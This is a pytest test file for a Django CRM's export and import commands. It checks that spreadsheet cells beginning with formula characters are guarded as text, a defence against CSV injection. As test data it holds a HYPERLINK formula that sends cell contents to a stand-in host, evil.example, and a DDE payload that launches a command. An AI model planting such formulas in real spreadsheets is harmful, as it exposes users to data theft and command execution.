"""Exports and error reports never hand a spreadsheet a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from salesradar.accounts.choices import Role
from salesradar.core.spreadsheet import FORMULA_STARTS, guard_cell, unguard_cell
from salesradar.crm.models import Customer
from tests.factories import CustomerFactory, OpportunityFactory, UserFactory
from tests.imports.helpers import import_file, write_csv

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def test_a_deal_named_like_a_formula_is_exported_to_xlsx_as_text(tmp_path: Path) -> None:
    manager = UserFactory(username="mgr", role=Role.DIRECTOR)
    OpportunityFactory(name=ATTACK, owner=manager)
    target = tmp_path / "opps.xlsx"

    call_command("export", kind="opportunities", user="mgr", output=str(target), language="en")

    sheet = load_workbook(target).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Opportunity name") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + ATTACK


def test_csv_exports_guard_every_formula_start_and_leave_numbers_alone(tmp_path: Path) -> None:
    admin = UserFactory(username="admin", role=Role.ADMIN)
    for start in ("=", "+", "-", "@"):
        CustomerFactory(name=f"{start}1+1 公司", owner=admin)
    target = tmp_path / "customers.csv"

    call_command("export", kind="customers", user="admin", output=str(target))

    with target.open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    at = rows[0].index("客户名称")
    names = sorted(row[at] for row in rows[1:])
    assert names == sorted(f"'{start}1+1 公司" for start in ("=", "+", "-", "@"))
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows[1:] for cell in row)


def test_a_guarded_export_reimports_unchanged(tmp_path: Path) -> None:
    admin = UserFactory(username="admin", role=Role.ADMIN)
    CustomerFactory(name="=某某公司", owner=admin, tier="A")
    target = tmp_path / "customers.csv"
    call_command("export", kind="customers", user="admin", output=str(target))

    report = import_file(target, "customers")

    assert (report.created, report.updated, report.error_count) == (0, 0, 0), report.errors
    assert Customer.objects.get().name == "=某某公司"


def test_the_error_report_guards_the_refused_values(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "customers.csv",
        [["Customer name", "Tier"], ["Acme", "=cmd|' /C calc'!A0"]],
    )
    errors = tmp_path / "errors.xlsx"

    with pytest.raises(SystemExit):
        call_command(
            "import",
            str(path),
            kind="customers",
            errors=str(errors),
            no_progress=True,
            stdout=StringIO(),
        )

    sheet = load_workbook(errors).worksheets[0]
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert any(str(value).startswith("'=cmd") for value in values), values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@given(st.text(max_size=30))
def test_guarding_then_unguarding_gives_the_text_back(text: str) -> None:
    guarded = guard_cell(text)

    assert not str(guarded).startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) == text or text.startswith("'")
